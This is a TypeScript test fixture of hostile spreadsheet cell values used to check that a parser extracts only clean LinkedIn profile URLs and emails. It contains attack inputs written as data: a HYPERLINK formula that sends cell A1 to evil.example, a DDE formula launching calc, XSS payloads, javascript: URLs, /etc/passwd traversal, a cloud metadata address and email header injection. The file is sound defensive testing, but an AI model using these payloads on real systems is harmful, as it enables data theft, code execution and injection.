/** A cell that may contain an identifier, and the values that are sent for it. */
export interface HostileCell {
	label: string;
	cell: unknown;
	/** The value that is sent for each kind of identifier. All other kinds are rejected. */
	sent: Partial<Record<'linkedin' | 'email' | 'hem', string>>;
	/** Whether the cell is skipped as blank. */
	isBlank: boolean;
}

const IN = 'https://www.linkedin.com/in/';
const ADA = `${IN}ada-example`;
const MEGABYTE = 1_000_000;

const rejected = (label: string, ...cells: unknown[]) =>
	cells.map((cell): HostileCell => ({ label, cell, sent: {}, isBlank: false }));
const blank = (label: string, ...cells: unknown[]) =>
	cells.map((cell): HostileCell => ({ label, cell, sent: {}, isBlank: true }));
/** Cells with one unambiguous profile; all other text is ignored. */
const profile = (label: string, slug: string, ...cells: unknown[]) =>
	cells.map((cell): HostileCell => ({
		label,
		cell,
		sent: { linkedin: IN + encodeURIComponent(slug) },
		isBlank: false,
	}));
/** Cells that are sent unchanged, so that the service decides. */
const email = (label: string, ...cells: string[]) =>
	cells.map((cell): HostileCell => ({ label, cell, sent: { email: cell, hem: cell }, isBlank: false }));

/** An object that throws if it is converted to a string, a number or JSON. */
function trap(): object {
	const fail = () => {
		throw new Error('The cell was converted');
	};
	return { toString: fail, valueOf: fail, toJSON: fail, [Symbol.toPrimitive]: fail };
}

export const HOSTILE_CELLS: readonly HostileCell[] = [
	...rejected(
		'a formula',
		'=HYPERLINK("https://evil.example/?x="&A1,"Ada")',
		'=1+1',
		'+1+1',
		'-1+1',
		'@SUM(1)',
		"=cmd|' /C calc'!A0",
		'\t=1+1',
		'\r=1+1',
		'＝1+1',
	),
	...rejected('a formula with an address', `=${ADA}`, `+${ADA}`, `-${ADA}`, '@ada@example.com'),
	...profile('an address inside a formula', 'ada-example', `=HYPERLINK("${ADA}")`),
	...profile(
		'an at sign or whitespace around an address',
		'ada-example',
		'@www.linkedin.com/in/ada-example',
		`\t${ADA}`,
		`${ADA}\r`,
	),
	...email('an address that starts like a formula', '=ada@example.com', '+ada@example.com', '-ada@example.com'),

	...rejected('HTML', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'ada<b>@example.com'),
	...profile(
		'an address inside HTML',
		'ada-example',
		`<a href="${ADA}">Ada</a>`,
		`${ADA}"><script>alert(1)</script>`,
	),
	{
		label: 'an email in angle brackets',
		cell: '<ada@example.com>',
		sent: { email: 'ada@example.com', hem: 'ada@example.com' },
		isBlank: false,
	},
	...profile('HTML in a query', 'ada-example', `${ADA}?x=<script>alert(1)</script>`, `${ADA}#"onmouseover="alert(1)`),

	...rejected(
		'a megabyte',
		'a'.repeat(MEGABYTE),
		'1'.repeat(MEGABYTE),
		'@'.repeat(MEGABYTE),
		'/'.repeat(MEGABYTE),
		'='.repeat(MEGABYTE),
		'a.'.repeat(MEGABYTE / 2),
	),
	...rejected(
		'a megabyte of an address',
		`${'a'.repeat(MEGABYTE)}@example.com`,
		`ada@${'example.'.repeat(MEGABYTE / 8)}com`,
		`${IN}${'a'.repeat(MEGABYTE)}`,
		`https://${'a'.repeat(MEGABYTE)}.linkedin.example/in/ada`,
	),
	...rejected(
		'a megabyte of spaces between two words',
		`a${' '.repeat(MEGABYTE)}b`,
		`a${'\u200b'.repeat(MEGABYTE)}b`,
		`${IN}a${'%20'.repeat(MEGABYTE / 3)}b`,
	),
	...profile(
		'a megabyte after an address',
		'ada-example',
		`${ADA}?${'x'.repeat(MEGABYTE)}`,
		`${ADA}/${'de/'.repeat(MEGABYTE / 3)}`,
		`${ADA}${' '.repeat(MEGABYTE)}`,
	),
	...blank('a megabyte of whitespace', ' '.repeat(MEGABYTE), '\u200b'.repeat(MEGABYTE), '\n'.repeat(MEGABYTE)),

	...rejected(
		'a null byte',
		'\0',
		'ada\0example',
		`${ADA}\0`,
		`\0${ADA}`,
		`${IN}ada%00`,
		'ada\0@example.com',
		'ada@example.com\0',
		'\0ada@example.com',
	),
	...rejected('a direction override in a bare slug', 'ada-example\u202egnp.exe', 'ada\u202eexample'),
	...profile('a direction override in an address', 'ada-example\u202egnp.exe', `${ADA}\u202egnp.exe`),
	...rejected('a bare slug without a marker', '\u202eelpmaxe-ada', '\u0430da-example', 'ada-example'),
	...rejected('a direction override in an email', 'ada\u202e@example.com'),
	...rejected(
		'half a surrogate pair',
		`${IN}ada\ud800`,
		'ada\udc00example',
		'ada\ud800@example.com',
		'ada@exam\udfffple.com',
	),

	...rejected(
		'a lookalike host',
		'https://www.linked\u0456n.com/in/ada-example',
		'https://www.\u04cfinkedin.com/in/ada-example',
		'https://www.lin\u043aedin.com/in/ada-example',
		'https://www.linkedin.c\u043em/in/ada-example',
	),
	...rejected(
		'a host in punycode',
		'https://www.xn--linkedn-p1a.com/in/ada-example',
		'https://xn--linkedin-x.com/in/ada-example',
		'https://www.xn--nkedin-pgb.com/in/ada-example',
	),
	...profile(
		'a host that browsers normalize',
		'ada-example',
		'https://www.ｌｉｎｋｅｄｉｎ.ｃｏｍ/in/ada-example',
		'https://www.lin\u212aedin.com/in/ada-example',
		'https://www.linkedin\u3002com/in/ada-example',
		'https://www.linkedin%2ecom/in/ada-example',
	),
	...profile('a lookalike slug', '\u0430da-example', `${IN}\u0430da-example`),
	...profile('a slug in full-width letters', 'ａｄａ-example', `${IN}ａｄａ-example`),
	...email('a lookalike mailbox', '\u0430da@example.com'),
	...rejected('a lookalike at sign', 'ada＠example.com', 'ada﹫example.com'),
	...rejected('letters that fold to A to Z', 'ａｄａ@example.com', 'mar\u212A@example.com', 'ad\u0131@example.com'),

	...rejected(
		'another scheme',
		'javascript:alert(1)',
		'javascript://www.linkedin.com/in/ada-example',
		'JaVaScRiPt://www.linkedin.com/%0aalert(1)',
		'data:text/html,<script>alert(1)</script>',
		'vbscript:x',
	),
	...profile('an address after another scheme', 'ada-example', `data:text/plain,${ADA}`),
	...rejected(
		'a file path',
		'file:///in/ada-example',
		'file://www.linkedin.com/in/ada-example',
		'\\\\evil.example\\in\\ada-example',
		'/etc/passwd',
		'../../etc/passwd',
	),
	...rejected(
		'another host',
		'https://www.linkedin.com@evil.example/in/ada-example',
		'https://www.linkedin.com:pass@evil.example/in/ada-example',
		'https://evil.example/www.linkedin.com/in/ada-example',
		'linkedin.com.evil.example/in/ada-example',
	),
	...rejected(
		'a disguised host',
		'https://www.linkedin.com%2eevil.example/in/ada-example',
		'https://www-linkedin.com/in/ada-example',
		'https://evil.example#www.linkedin.com/in/ada-example',
		'https://evil.example?www.linkedin.com/in/ada-example',
	),
	...rejected(
		'an address that is not of a profile',
		'https://www.linkedin.com\\@evil.example/in/ada-example',
		'https://www.linkedin.com#@evil.example/in/ada-example',
		'https://www.linkedin.com/redirect?url=https://evil.example/in/ada-example',
		`${ADA}@evil.example`,
	),
	...rejected(
		'a local address',
		'http://127.0.0.1/in/ada-example',
		'http://[::1]/in/ada-example',
		'http://localhost/in/ada-example',
		'http://169.254.169.254/in/ada-example',
	),
	...rejected(
		'a path traversal',
		`${IN}../company/example`,
		`${IN}%2e%2e%2fcompany%2fexample`,
		`${IN}..%5c..`,
		`${IN}%252e%252e/../..`,
	),
	...rejected(
		'a user name or a password',
		'https://ada:secret@www.linkedin.com/in/ada-example',
		'https://ada@www.linkedin.com/in/ada-example',
	),

	...rejected(
		'two at signs',
		'ada@example.com@evil.example',
		'"ada@example.com"@evil.example',
		'ada@@example.com',
		'ada@example.com,bob@example.com',
	),
	...rejected(
		'a header injection',
		'ada@example.com\r\nBcc: bob@example.com',
		'ada@example.com\nbob@example.com',
		'ada@example.com%0aBcc:bob@example.com',
		'ada\r\n@example.com',
		'ada@example.com\u2028bob@example.com',
	),

	...rejected(
		'a value that is not text',
		{},
		{ url: ADA },
		[ADA, `${ADA}-2`],
		[[[[[ADA]]]]],
		new Date(0),
		new String(ADA),
		new Map(),
		Object.create(null),
		() => ADA,
	),
	...rejected('an object that throws when converted', trap(), [trap()]),
	...blank('NaN', NaN, 'NaN'),
	...rejected('a number that is not an identifier', Infinity, -Infinity, 'Infinity', -0, 1e21, 12_345n),
	...profile('a list with one address', 'ada-example', [ADA]),
	...blank('an empty value', [], '', null, undefined, '\ufeff', '\r\n\t'),
];
